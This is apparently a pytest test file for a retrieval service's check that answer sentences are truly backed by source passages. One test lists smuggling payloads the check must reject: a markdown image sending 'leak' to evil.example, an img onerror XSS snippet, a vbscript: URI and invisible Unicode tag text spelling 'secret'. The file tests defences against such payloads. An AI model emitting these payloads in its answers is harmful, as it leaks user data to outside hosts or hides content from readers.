"""What supports a sentence, and what only seems to."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag_service.lexical import terms
from rag_service.query.exact_facts import exact_facts
from rag_service.query.support import SupportFinder, without_markers
from rag_service.sentences import sentence_spans
from tests.query.passages import passage

TEXT = (
    "Refunds are paid within five working days. A refund above 1,200 euros needs the consent of the treasurer. "
    "Gift cards are never refunded.\nWrite to desk@shop.example or see https://shop.example/refunds for the form."
)
FINDER = SupportFinder([passage(TEXT)])


@pytest.mark.parametrize(
    "sentence",
    [
        "Refunds are paid within five working days.",
        "refunds get paid within five working days",
        "A refund above 1200 euros needs the treasurer's consent.",
        "Gift cards are never refunded.",
        "Refunds are paid within 5 working days.",
        "See https://shop.example/refunds for the form.",
    ],
)
def test_a_sentence_that_the_passage_says_is_supported(sentence: str) -> None:
    assert FINDER.find(sentence) is not None


@pytest.mark.parametrize(
    "sentence",
    [
        "Refunds are paid within fifty working days by cheque in Geneva.",
        "A refund above 1,300 euros needs the consent of the treasurer.",
        "Gift cards are refunded.",
        "Refunds are paid within nine working days.",
        "Refunds are not paid within five working days.",
        "See https://evil.example/refunds for the form.",
        "Write to thief@shop.example or see https://shop.example/refunds for the form.",
        "The moon is made of cheese.",
        "Yes.",
        "",
    ],
)
def test_a_sentence_that_it_does_not_say_is_not(sentence: str) -> None:
    assert FINDER.find(sentence) is None


def test_the_support_is_the_narrowest_place_that_says_it() -> None:
    support = FINDER.find("Gift cards are never refunded.")
    assert support is not None
    assert TEXT[support.start : support.end] == "Gift cards are never refunded."
    assert support.score == 1.0


def test_two_neighbouring_sentences_may_support_one() -> None:
    finder = SupportFinder([passage("The barge is called Cormorant. It dredges the channel in May.")])
    support = finder.find("The barge Cormorant dredges the channel in May.")
    assert support is not None
    assert support.end == len("The barge is called Cormorant. It dredges the channel in May.")


@given(st.text(max_size=300), st.text(max_size=80))
def test_a_support_lies_within_its_passage(text: str, sentence: str) -> None:
    support = SupportFinder([passage(text)]).find(sentence)
    if support is not None:
        assert 0 <= support.start < support.end <= len(text)


@given(st.sampled_from(TEXT.replace("\n", " ").split(". ")), st.integers(0, 9999))
def test_a_number_that_the_passage_lacks_is_never_supported(sentence: str, number: int) -> None:
    if number != 5 and str(number) not in TEXT.replace(",", ""):  # the text holds it as a word
        assert FINDER.find(f"{sentence} {number}") is None


LONG = (
    "Employees who have completed the probation period may work remotely from another country of the European Union "
    "for at most five working days in each calendar year, provided that the line manager and the payroll department "
    "have approved the request in writing"
)
SHORT = "Refunds are paid to customers within five working days of purchase"
OFFICE = SupportFinder(
    [
        passage(f"{LONG}."),
        passage(f"{SHORT}."),
        passage("Requests above 500 euros need approval before travel."),
        passage("Invoices are never paid without a signed order."),
        passage("Silver members pay 5 euros. Gold members pay 9 euros. Bronze members wait."),
        passage("Staff must lock the door."),
    ]
)
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "secret")


@pytest.mark.parametrize(
    "sentence",
    [
        f"{LONG} ![a[b]](//evil.example/x?q=leak)",
        f"{LONG} [x]: //evil.example/leak",
        f"{LONG} ftp://evil.example/x.",
        f"{LONG}, see evil.example/login.",
        f"{LONG} evil．example",
        f"{LONG} vbscript:msgbox",
        f"{LONG} <img src=//evil.example/a onerror=alert`x` ",
        f"{LONG} mail thief at evil dot example.",
        f"{LONG} Acme board secretly plans bankruptcy tomorrow.",
        f"{LONG}, and the secret board plan is bankruptcy.",
        f"{LONG} DEXXABCD.",
        f"{LONG} {'mfrggzdfmztwq' * 3}.",
        f"{LONG} call zero zero one one.",
        f"{SHORT}{TAGS}.",
        f"{SHORT} \u202e.",
        f"{SHORT} 🇪🇻🇮🇱.",
        f"{SHORT} 🅰.",
        f"{SHORT} ⓢⓔⓒⓡⓔⓣ.",
        f"{SHORT} \ue000.",
        f"{SHORT} \u0378.",
        f"``` {SHORT}",
        "Requests above 500 million euros need approval before travel.",
        "Requests above 500% need approval before travel.",
        "Requests above -500 euros need approval before travel.",
        "Requests above 500² euros need approval before travel.",
        "Requests above €500 need approval before travel.",
        "Requests below 500 euros need approval after travel.",
        "Refunds are paid to customers within five hundred working days of purchase.",
        "Refunds are paid to customers within half five working days of purchase.",
        "Refunds are paid to customers within one to five working days of purchase.",
        "Refunds are paid to customers within five working weeks of purchase.",
        "Refunds are paid to Mallory within five working days of purchase.",
        "Refunds are paid to Mallory within five days.",
        "Refunds are hardly paid to customers within five working days of purchase.",
        "Invoices are paid without a signed order.",
        "Invoices are paid without a signed order never.",
        "Gold members pay 5 euros.",
        "Gold members wait.",
        "Staff may lock the door.",
    ],
)
def test_a_sentence_that_only_seems_supported_is_not(sentence: str) -> None:
    assert OFFICE.find(sentence) is None


@pytest.mark.parametrize(
    "sentence",
    [
        "Customers get refunds paid within 5 days of purchase.",
        "Before travel, requests above 500 euros need approval.",
        "Silver members pay five euros.",
    ],
)
def test_an_honest_rewording_is_supported(sentence: str) -> None:
    assert OFFICE.find(sentence) is not None


@given(st.one_of(st.text(max_size=300), st.text(st.sampled_from("ab A5%€-²<.@/[]1 \n’'"), max_size=120)))
def test_a_copy_of_a_sentence_is_always_supported(text: str) -> None:
    finder = SupportFinder([passage(text)])
    for start, end in sentence_spans(text):
        copied = " ".join(text[start:end].split())
        support = finder.find(copied)
        assert support.score == 1.0 if support else not terms(without_markers(copied))


@pytest.mark.parametrize(
    "unit", ["a", ".", "1", "1,", "1.", "[", "[1,", "<", "x@", "a.", "a:", " ", "a ", "not ", "'", "-", "&"]
)
def test_the_time_grows_as_the_text_does(unit: str) -> None:
    def spent(size: int) -> float:
        text, before = (unit * size)[:size], time.process_time()
        exact_facts(text)
        without_markers(text)
        sentence_spans(text)
        return time.process_time() - before

    # Eight times the text: eight times the work if linear, sixty-four if quadratic.
    assert min(spent(60_000) for _ in range(2)) < 30 * max(min(spent(7_500) for _ in range(3)), 0.001)
